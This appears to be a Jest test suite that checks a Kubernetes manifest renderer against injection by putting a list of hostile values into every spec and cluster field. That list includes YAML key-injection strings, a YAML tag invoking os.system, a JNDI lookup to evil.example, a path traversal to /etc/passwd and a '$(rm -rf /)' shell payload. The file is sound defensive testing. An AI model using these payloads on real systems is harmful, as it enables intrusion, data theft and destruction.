// Hostile values in every user-supplied field: each is either rejected with an error naming the
// field, or rendered as plain data — the objects have exactly the keys they have with a harmless
// value, the value comes out unchanged, and both YAML 1.1 and 1.2 readers read the YAML stream
// back as the same objects.
import { parseAllDocuments } from 'yaml';

import { InvalidInputError } from '../../../lib/errors';
import { renderManifests, type RenderResult } from '../../../lib/manifests';

const HOSTILE: Array<[string, string]> = [
	['newline then a key', 'x\nkind: Secret'],
	['CRLF then a key', 'x\r\nspec: {}'],
	['quote, newline, key', 'x"\nprivileged: true'],
	['single quote break-out', "x'\nhostNetwork: true"],
	['Handlebars mustache', '{{app.name}}'],
	['Handlebars triple stash', '{{{yaml app}}}'],
	['Handlebars partial', '{{> partials/container}}'],
	['YAML anchor', '&anchor x'],
	['YAML alias', '*alias'],
	['YAML merge key', '<<: *base'],
	['YAML tag', '!!python/object/apply:os.system ["id"]'],
	['document separator', '---\napiVersion: v1\nkind: Secret'],
	['inline document marker', '--- x'],
	['directive', '%YAML 1.1'],
	['mapping in a value', 'x: y'],
	['sequence entry', '- item'],
	['flow mapping', '{hostPID: true}'],
	['flow sequence', '[1, 2]'],
	['comment', 'x # comment'],
	['block scalar', '|\n  block'],
	['YAML 1.1 boolean', 'yes'],
	['YAML 1.1 octal', '0755'],
	['YAML 1.2 octal', '0o17'],
	['null', '~'],
	['sexagesimal', '1:20'],
	['NUL byte', 'a\u0000b'],
	['tab', 'a\tb'],
	['line separator U+2028', 'x\u2028injected: 1'],
	['next line U+0085', 'x\u0085injected: 1'],
	['byte order mark', '\ufeffx'],
	['right-to-left override', 'abc\u202edef'],
	['Go template (Prometheus)', '{{ query "up" | first | value }}'],
	['JNDI string', '${jndi:ldap://evil.example/a}'],
	['path traversal', '../../etc/passwd'],
	['shell', '$(rm -rf /)'],
	['emoji', 'shop 🚀'],
	['upper case', 'Shop'],
	['long', 'a'.repeat(300)],
	['empty-looking', ' '],
];

interface Field {
	field: string;
	/** spec (or cluster settings) with the value in this field */
	set: (value: string) => { spec?: Record<string, unknown>; cluster?: Record<string, unknown> };
	/** a harmless value of the field, for the structure to compare with */
	benign: string;
	/** how the accepted value shows in the objects (default: as it is) */
	appears?: (value: string) => string;
	/** the value becomes a key (an env name in the ConfigMap, a label key) */
	keyed?: boolean;
}

const FIELDS: Field[] = [
	{ field: 'name', set: (v) => ({ spec: { name: v } }), benign: 'shop' },
	{ field: 'displayName', set: (v) => ({ spec: { displayName: v } }), benign: 'Shop' },
	{ field: 'namespace', set: (v) => ({ spec: { namespace: v } }), benign: 'shop-ns' },
	{ field: 'domain', set: (v) => ({ spec: { domain: v } }), benign: 'shop.example.com' },
	{ field: 'framework', set: (v) => ({ spec: { framework: v } }), benign: 'flask' },
	{ field: 'image', set: (v) => ({ spec: { image: v } }), benign: 'nginx:1.27' },
	{ field: 'plan', set: (v) => ({ spec: { plan: v } }), benign: 'basic' },
	{ field: 'replicas', set: (v) => ({ spec: { replicas: v } }), benign: '1' },
	{ field: 'port', set: (v) => ({ spec: { port: v } }), benign: '8080' },
	{
		field: 'env.<name>',
		set: (v) => ({ spec: { env: { [v]: 'x' } } }),
		benign: 'GREETING',
		keyed: true,
	},
	{ field: 'env.GREETING', set: (v) => ({ spec: { env: { GREETING: v } } }), benign: 'hello' },
	{
		field: 'env[0].name',
		set: (v) => ({ spec: { env: [{ name: v, value: 'x' }] } }),
		benign: 'GREETING',
		keyed: true,
	},
	{ field: 'secretRefs[0]', set: (v) => ({ spec: { secretRefs: [v] } }), benign: 'shop-api-keys' },
	{
		field: 'secretRefs[0].key',
		set: (v) => ({ spec: { secretRefs: [{ secret: 'keys', key: v, env: 'API_KEY' }] } }),
		benign: 'api-key',
	},
	{
		field: 'secretRefs[0].env',
		set: (v) => ({ spec: { secretRefs: [{ secret: 'keys', key: 'k', env: v }] } }),
		benign: 'API_KEY',
	},
	{ field: 'addons[0]', set: (v) => ({ spec: { addons: [v] } }), benign: 'redis' },
	{
		field: 'addons[0].storage',
		set: (v) => ({ spec: { addons: [{ type: 'redis', storage: v }] } }),
		benign: '2Gi',
	},
	{ field: 'healthPath', set: (v) => ({ spec: { healthPath: v } }), benign: '/healthz' },
	{ field: 'metricsPath', set: (v) => ({ spec: { metricsPath: v } }), benign: '/stats' },
	{
		field: 'notificationChannels[0]',
		set: (v) => ({ spec: { notificationChannels: [v] } }),
		benign: 'slack',
	},
	{
		field: 'workerCommand[1]',
		set: (v) => ({
			spec: { framework: 'django', addons: ['redis'], workerCommand: ['celery', v] },
		}),
		benign: 'worker',
	},
	{ field: 'initCommand[0]', set: (v) => ({ spec: { initCommand: [v] } }), benign: 'true' },
	{
		field: 'policy.maxMemory',
		set: (v) => ({ spec: { policy: { maxMemory: v } } }),
		benign: '4Gi',
	},
	{
		field: 'policy.allowedActions[0]',
		set: (v) => ({ spec: { policy: { allowedActions: [v] } } }),
		benign: 'restart',
	},
	{
		field: 'policy.approvalRequired[0]',
		set: (v) => ({ spec: { policy: { approvalRequired: [v] } } }),
		benign: 'rollback',
	},
	{
		field: 'cluster.namespacePrefix',
		set: (v) => ({ cluster: { namespacePrefix: v } }),
		benign: 'team-',
		appears: (v) => `${v}shop`,
	},
	{
		field: 'cluster.ingressClassName',
		set: (v) => ({ cluster: { ingressClassName: v } }),
		benign: 'traefik',
	},
	{
		field: 'cluster.issuerName',
		set: (v) => ({ cluster: { issuerName: v } }),
		benign: 'internal-ca',
	},
	{
		field: 'cluster.ingressNamespace',
		set: (v) => ({ cluster: { ingressNamespace: v } }),
		benign: 'ingress',
	},
	{
		field: 'cluster.monitoringNamespace',
		set: (v) => ({ cluster: { monitoringNamespace: v } }),
		benign: 'observability',
	},
	{
		field: 'cluster.monitoringLabels.team',
		set: (v) => ({ cluster: { monitoringLabels: { team: v } } }),
		benign: 'platform',
	},
	{
		field: 'cluster.monitoringLabels.<key>',
		set: (v) => ({ cluster: { monitoringLabels: { [v]: 'x' } } }),
		benign: 'release',
		keyed: true,
	},
];

const BASE = {
	name: 'shop',
	displayName: 'Shop',
	domain: 'shop.example.com',
	framework: 'flask',
	image: 'registry.example.com/team/shop:1.4.2',
};

function render(field: Field, value: string): RenderResult {
	const { spec, cluster } = field.set(value);
	return renderManifests({ ...BASE, ...spec }, { cluster, generatePassword: () => 'pw' });
}

/** Every key path of every object (array positions included): the structure, without values. */
function keyPaths(result: RenderResult): string[] {
	const paths: string[] = [];
	const walk = (value: unknown, path: string) => {
		if (Array.isArray(value)) value.forEach((v, i) => walk(v, `${path}[${i}]`));
		else if (value && typeof value === 'object') {
			for (const [k, v] of Object.entries(value)) walk(v, `${path}.${k}`);
		} else paths.push(path);
	};
	result.objects.forEach((o, i) => walk(o, `#${i}`));
	walk(result.dashboard, 'dashboard');
	return paths.sort();
}

function stringLeaves(value: unknown, out: string[] = []): string[] {
	if (typeof value === 'string') out.push(value);
	else if (Array.isArray(value)) value.forEach((v) => stringLeaves(v, out));
	else if (value && typeof value === 'object') {
		for (const [k, v] of Object.entries(value)) {
			out.push(k);
			stringLeaves(v, out);
		}
	}
	return out;
}

/** The field a rejection must name (a field keyed by the value is named by its prefix). */
function expectedField(field: Field, value: string): string {
	return field.field.replace('<name>', value).replace('<key>', value);
}

const baselines = new Map<Field, string[]>();
function baselinePaths(field: Field): string[] {
	if (!baselines.has(field)) baselines.set(field, keyPaths(render(field, field.benign)));
	return baselines.get(field)!;
}

const accepted = new Map<string, number>();
const rejected = new Map<string, number>();

describe('injection: hostile values in every user-supplied field', () => {
	const cases = FIELDS.flatMap((field) => HOSTILE.map(([what, value]) => ({ field, what, value })));

	it(`has ${HOSTILE.length} hostile values for ${FIELDS.length} fields`, () => {
		expect(HOSTILE.length).toBeGreaterThanOrEqual(20);
	});

	it.each(cases)('$field.field ← $what', ({ field, value }) => {
		let result: RenderResult;
		try {
			result = render(field, value);
		} catch (error) {
			expect(error).toBeInstanceOf(InvalidInputError);
			const named = (error as InvalidInputError).field;
			expect(named).toBe(expectedField(field, value));
			expect((error as Error).message.startsWith(`${named}: `)).toBe(true);
			rejected.set(field.field, (rejected.get(field.field) ?? 0) + 1);
			return;
		}
		accepted.set(field.field, (accepted.get(field.field) ?? 0) + 1);
		// the structure is the one a harmless value gives: no key was added or lost (where the
		// value is itself a key, e.g. an env name, it stands in that key's place)
		const paths = keyPaths(result).map((p) =>
			field.keyed ? p.split(`.${value}`).join(`.${field.benign}`) : p,
		);
		expect(paths.sort()).toEqual(baselinePaths(field));
		// the value is data: it comes out unchanged
		expect(stringLeaves([result.objects, result.dashboard])).toContain(
			field.appears?.(value) ?? value,
		);
		// and the YAML stream reads back as the same objects, in YAML 1.2 and 1.1 (kubectl)
		for (const version of ['1.1', '1.2'] as const) {
			const docs = parseAllDocuments(result.yaml, { version, uniqueKeys: true });
			expect(docs.map((d) => d.toJS())).toEqual(result.objects);
		}
		// Prometheus expands alert annotations as Go templates: no `{{` of the value may run
		const rules = result.objects.find((o) => o.kind === 'PrometheusRule') as any;
		for (const rule of rules.spec.groups[0].rules) {
			const text = String(rule.annotations.summary).replace(/\{\{ "\{\{" \}\}/g, '');
			expect(text).not.toContain('{{');
		}
	});

	afterAll(() => {
		// free-text fields take hostile text as data; structured fields refuse it
		for (const free of ['displayName', 'env.GREETING', 'workerCommand[1]', 'initCommand[0]']) {
			expect(accepted.get(free) ?? 0).toBeGreaterThanOrEqual(20);
		}
		for (const { field } of FIELDS) expect(rejected.get(field) ?? 0).toBeGreaterThan(0);
	});
});
